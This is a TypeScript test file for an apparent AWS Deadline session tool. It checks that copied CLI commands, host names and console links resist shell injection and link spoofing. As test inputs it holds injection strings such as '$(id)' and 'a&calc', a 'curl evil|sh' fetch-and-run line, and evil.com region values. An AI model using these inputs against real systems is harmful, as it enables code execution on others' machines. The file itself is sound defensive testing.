import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import type { SessionKey } from '../../../src/core/session/sessionKey';
import { logConsoleLink } from '../../../src/render/consoleLinks';
import { copyableText } from '../../../src/render/copyable';
import { endedSession, failedSession, KEY, NOW_MS } from '../../support/sessions/sessions';

const withProfile = (profile: string): SessionKey => ({
  ...KEY,
  connection: { source: 'aws', profile, region: 'us-west-2' },
});

function commandsFor(profile: string): (string | undefined)[] {
  const session = { ...failedSession(), key: withProfile(profile) };
  return (['cli', 'deadlineCli'] as const).map((what) => copyableText(what, session, NOW_MS));
}

/** What every shell takes for one word: bare, or in double quotes with nothing that a shell interprets there. */
const ONE_WORD = / --profile (?:[A-Za-z0-9_][\w.-]*|"[\p{L}\p{M}\p{N}_.@+=, -]+")$/u;

describe('copied commands', () => {
  it('write a profile as one word of every shell, or not at all', () => {
    const risky = fc.constantFrom(
      '’',
      '‘',
      '‛',
      '"',
      "'",
      '`',
      '$',
      '%',
      '!',
      '^',
      '&',
      '|',
      ';',
      '\\',
      '(',
      '\n',
      '-',
    );
    const names = fc.array(fc.oneof(risky, fc.string(), fc.constantFrom('studio', ' x', '@y', '名前')), {
      maxLength: 5,
    });
    fc.assert(
      fc.property(names, (parts) =>
        commandsFor(parts.join('')).every((command) => command === undefined || ONE_WORD.test(command)),
      ),
      { numRuns: 500 },
    );
  });

  for (const profile of [
    '’; calc; ‘',
    'a&calc',
    "it's",
    '$(id)',
    '%PATH%',
    'a`id`',
    'a"b',
    '-x',
    'a\\',
    'a!b',
    'x;y',
    '@(calc)',
  ]) {
    it(`are not written for the profile ${profile}`, () => {
      assert.deepEqual(commandsFor(profile), [undefined, undefined]);
    });
  }

  for (const profile of ['studio', 'studio x', 'a@b.com', '@splat', 'a=b,c', 'Büro 名前', '+1']) {
    it(`reach a POSIX shell whole for the profile ${profile}`, function () {
      if (process.platform === 'win32') {
        return;
      }
      for (const command of commandsFor(profile)) {
        const words = command?.replace(/^(aws|deadline)/, "printf '%s\\n'") ?? '';
        assert.equal(
          execFileSync('/bin/sh', ['-c', words], { encoding: 'utf8' }).trimEnd().split('\n').at(-1),
          profile,
        );
      }
    });
  }
});

describe('a copied host name', () => {
  it('is one short line, whatever the worker calls itself', () => {
    const session = failedSession();
    assert.ok(session.snapshot);
    const { snapshot } = session;
    const copy = (hostName: string): string =>
      copyableText(
        'hostName',
        {
          ...session,
          snapshot: {
            ...snapshot,
            session: { ...snapshot.session, host: { ...snapshot.session.host, hostName } },
          },
        },
        NOW_MS,
      ) ?? '';
    assert.equal(copy('h\ncurl evil|sh\n'), 'h curl evil|sh ');
    assert.equal(copy('a\u202eb'), 'a\\u202eb');
    assert.ok(copy('x'.repeat(10_500_000)).length <= 255);
  });
});

describe('what failed', () => {
  it('is copied with its verdict and what the log or the task said, a line each', () => {
    const text = copyableText('failure', failedSession(), NOW_MS) ?? '';
    assert.match(text.split('\n')[0] ?? '', /^Frame 1003 · Render failed: exit 139 \(SIGSEGV\)/);
    assert.ok(text.split('\n').length > 1);
    assert.equal(copyableText('failure', endedSession(), NOW_MS), undefined);
  });

  it('leaves what names its place on one line', () => {
    const session = failedSession();
    assert.equal(copyableText('sessionLogStream', session, NOW_MS), KEY.sessionId);
    assert.match(copyableText('addresses', session, NOW_MS) ?? '', /^10\.3\.0\.17/);
    assert.match(copyableText('instanceArn', session, NOW_MS) ?? '', /^arn:aws:ec2:/);
  });
});

describe('a link to the CloudWatch console', () => {
  it('leads to AWS, whatever the Region of the log is said to be', () => {
    const link = (region: string): string | undefined =>
      logConsoleLink(KEY.connection, {
        driver: 'awslogs',
        options: { logGroupName: '/aws/deadline/x', logStreamName: 'y', region },
        parameters: {},
        error: undefined,
      });
    assert.ok(link('us-west-2')?.startsWith('https://us-west-2.console.aws.amazon.com/'));
    for (const region of ['evil.com/', 'evil.com#', 'a@evil.com', 'a.evil', 'a\\b', 'a b', '', 'us-west-2\n']) {
      assert.equal(link(region), undefined, region);
    }
  });
});
